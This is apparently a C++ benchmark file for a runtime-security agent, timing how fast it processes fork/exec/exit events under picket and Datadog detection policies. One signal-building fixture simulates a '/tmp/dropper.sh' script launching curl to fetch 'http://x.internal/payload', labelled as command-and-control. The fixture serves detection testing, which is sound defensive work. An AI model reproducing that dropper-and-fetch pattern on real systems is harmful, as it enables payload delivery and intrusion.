// The agent's per-event user-space cost, with both default policies loaded
// (picket's shipped policy and Datadog's default.policy): a whole
// fork → exec → exit cycle through Pipeline::Process (tree apply, event view,
// every exec rule, actions), and building + encoding one signal.
//
//   build/release/src/app/app_pipeline_benchmark

#include <benchmark/benchmark.h>

#include <algorithm>
#include <fstream>
#include <sstream>
#include <utility>

#include "app/embedded_policy.h"
#include "app/pipeline.h"
#include "engine/rule_set.h"
#include "fields/catalogue.h"
#include "policy/loader.h"
#include "signals/signal_builder.h"

namespace picket::app {
namespace {

std::string ReadFile(const std::string& path) {
  std::ifstream in(path);
  std::stringstream text;
  text << in.rdbuf();
  return text.str();
}

std::shared_ptr<const engine::RuleSet> BothPolicies() {
  std::vector<policy::PolicySource> sources = {
      {.path = std::string(kEmbeddedPolicyName), .text = std::string(EmbeddedDefaultPolicy())},
      {.path = "default.policy",
       .text =
           ReadFile(std::string(PICKET_SOURCE_DIR) + "/../shared/data/datadog/default.policy")}};
  auto compiled =
      std::make_shared<policy::CompiledPolicy>(policy::LoadPolicies(std::move(sources), {}));
  return engine::BuildRuleSet(compiled, fields::FieldCatalogue::Default());
}

// One fork + exec + exit of a child of `parent`, with realistic sizes.
struct Cycle {
  events::ForkEvent fork;
  events::ExecEvent exec;
  events::ExitEvent exit;
};

Cycle MakeCycle(std::uint32_t pid, std::uint64_t t, const std::string& tool) {
  Cycle c;
  events::ProcessKey parent{.pid = 100, .start_time_ns = 1};
  events::ProcessKey child{.pid = pid, .start_time_ns = t};
  c.fork = {.timestamp_ns = t, .child = child, .parent = parent, .parent_tid = 100};
  c.exec.timestamp_ns = t + 1000;
  c.exec.process = child;
  c.exec.parent = parent;
  c.exec.tid = pid;
  c.exec.comm = tool;
  c.exec.filename = "/usr/bin/" + tool;
  c.exec.file.path = "/usr/bin/" + tool;
  c.exec.file.inode = 1234;
  c.exec.file.mode = 0100755;
  c.exec.argv = {tool, "-s", "--max-time", "3", "http://updates.example.internal/pkg/index.json"};
  c.exec.args_size = 64;
  c.exec.cgroup_id = 1;
  c.exec.cgroup_path = "/system.slice/app.service";
  c.exit = {.timestamp_ns = t + 2000, .process = child, .exit_code = 0};
  return c;
}

void SeedParent(Pipeline& pipeline) {
  auto shell = std::make_shared<proc::Process>();
  shell->key = {.pid = 100, .start_time_ns = 1};
  shell->comm = "bash";
  shell->file.path = "/usr/bin/bash";
  shell->argv = {"bash"};
  shell->is_exec = true;
  shell->from_seed = true;
  // The shell's children stay in its cgroup, as on a real host: Datadog's
  // execution_context_cgroup rule fires only when an exec changes cgroup.
  shell->cgroup_id = 1;
  shell->cgroup_path = "/system.slice/app.service";
  pipeline.Seed({shell});
}

// Rules evaluated and ruled out by the prefilter, per cycle (one exec each).
void ReportEngineCounters(benchmark::State& state, const Pipeline& pipeline) {
  const engine::EngineStats& stats = pipeline.engine().stats();
  const auto cycles = static_cast<double>(std::max<std::int64_t>(state.iterations(), 1));
  state.counters["rules_evaluated"] = static_cast<double>(stats.rule_evaluations) / cycles;
  state.counters["rules_skipped"] = static_cast<double>(stats.rules_skipped) / cycles;
  state.counters["matches"] = static_cast<double>(stats.matches) / cycles;
  state.counters["variable_instances"] =
      static_cast<double>(pipeline.engine().variable_instances());
}

// Fork + exec + exit cycles of `tool` (a child of the seeded bash) through a
// pipeline with both default policies; reports signals and engine counters.
void RunExecCycles(benchmark::State& state, const std::string& tool, PipelineOptions options) {
  std::uint64_t emitted = 0;
  Pipeline pipeline(std::move(options), BothPolicies(), nullptr,
                    [&emitted](const signals::Signal&) { ++emitted; });
  SeedParent(pipeline);
  std::uint32_t pid = 1000;
  std::uint64_t t = 1'700'000'000'000'000'000ULL;
  for (auto _ : state) {
    Cycle c = MakeCycle(pid, t, tool);
    // Moved in, as the collector hands over each decoded event.
    pipeline.Process(std::move(c.fork));
    pipeline.Process(std::move(c.exec));
    pipeline.Process(std::move(c.exit));
    pid = pid >= 4'000'000 ? 1000 : pid + 1;
    t += 10'000;
  }
  state.SetItemsProcessed(state.iterations());
  state.counters["signals"] = static_cast<double>(emitted);
  ReportEngineCounters(state, pipeline);
}

// A clean host workload: /usr/bin/true run by a shell. No rule matches.
void BM_ExecCycleBothPolicies(benchmark::State& state) { RunExecCycles(state, "true", {}); }
BENCHMARK(BM_ExecCycleBothPolicies);

// The same with every exec rule evaluated (prefilter off): what the
// prefilter saves, measured side by side in one run.
void BM_ExecCycleBothPoliciesNoPrefilter(benchmark::State& state) {
  PipelineOptions options;
  options.engine.prefilter = false;
  RunExecCycles(state, "true", options);
}
BENCHMARK(BM_ExecCycleBothPoliciesNoPrefilter);

// A network tool from a clean parent: Datadog's net_util_v2 evaluates its
// variables and may match (rate-limited); picket's net_util walks ancestors.
void BM_NetToolExecCycleBothPolicies(benchmark::State& state) { RunExecCycles(state, "curl", {}); }
BENCHMARK(BM_NetToolExecCycleBothPolicies);

void BM_BuildAndEncodeSignal(benchmark::State& state) {
  auto script = std::make_shared<proc::Process>();
  script->key = {.pid = 10, .start_time_ns = 1};
  script->comm = "dropper.sh";
  script->file.path = "/tmp/dropper.sh";
  script->interpreter.path = "/usr/bin/dash";
  script->argv = {"/bin/sh", "/tmp/dropper.sh"};
  auto curl = std::make_shared<proc::Process>();
  curl->key = {.pid = 11, .start_time_ns = 2};
  curl->comm = "curl";
  curl->file.path = "/usr/bin/curl";
  curl->argv = {"curl", "-s", "http://x.internal/payload"};
  curl->lineage_parent = script;
  events::Event event =
      events::ExecEvent{.timestamp_ns = 1'700'000'000'000'000'000ULL, .process = curl->key};
  signals::RuleInfo rule{.id = "net_util",
                         .description = "Network utility executed from a suspicious location",
                         .message_template = "The process `{{ @process.comm }}` was executed.",
                         .severity = "high",
                         .product_tags = {"tactic:TA0011-command-and-control"}};
  UserNames names;
  for (auto _ : state) {
    signals::MatchContext match{
        .event = &event, .process = curl.get(), .ancestors = {script.get()}};
    signals::Signal signal = signals::BuildSignal(rule, match, {}, names);
    std::string line = signal.ToJsonLine();
    benchmark::DoNotOptimize(line);
  }
}
BENCHMARK(BM_BuildAndEncodeSignal);

}  // namespace
}  // namespace picket::app
